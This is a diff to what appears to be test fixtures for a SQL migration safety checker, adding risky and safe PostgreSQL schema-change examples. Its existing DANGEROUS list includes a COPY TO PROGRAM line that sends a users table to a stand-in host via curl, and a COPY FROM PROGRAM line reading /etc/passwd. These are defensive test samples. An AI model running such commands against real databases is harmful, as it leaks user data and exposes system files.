@@ -80,10 +80,20 @@ DANGEROUS: Final = (
     "COPY users TO PROGRAM 'curl -d @- http://collect.example';",
     "COPY users FROM PROGRAM 'cat /etc/passwd';",
     "DROP INDEX CONCURRENTLY sales_user;",
+    "ALTER TYPE order_state RENAME TO old_state;\nCREATE TYPE order_state AS ENUM ('new');\nALTER TABLE orders ALTER COLUMN state TYPE order_state USING state::text::order_state;",
+    "BEGIN;\nALTER TABLE orders ADD COLUMN region text;\nALTER TABLE users VALIDATE CONSTRAINT grown_up;\nCOMMIT;",
+    "ALTER TABLE events_2025 INHERIT animals;",
+    "COPY (SELECT email FROM users) TO '/var/tmp/mail.csv' (FORMAT csv);",
+    "ALTER SEQUENCE invoice_no AS smallint;",
+    "ALTER TABLE app.accounts ALTER COLUMN balance DROP DEFAULT;",
     "CREATE TABLE new (LIKE orders);\nINSERT INTO new SELECT * FROM orders;\nALTER TABLE orders RENAME TO old;\nALTER TABLE new RENAME TO orders;",
 )
 
 SAFE: Final = (
+    "ALTER TABLE orders ADD COLUMN seller bigint REFERENCES users (id);",
+    "ALTER TABLE users VALIDATE CONSTRAINT grown_up;",
+    "CREATE TABLE cats (LIKE animals);\nALTER TABLE cats INHERIT animals;",
+    "ALTER SEQUENCE invoice_no AS bigint;",
     "SET lock_timeout = '2s';\nALTER TABLE users ADD COLUMN boss bigint REFERENCES users (id);",
     "CREATE POLICY own ON app.accounts AS RESTRICTIVE USING (owner = current_user);",
     "ALTER ROLE reporting SET search_path = reporting;",
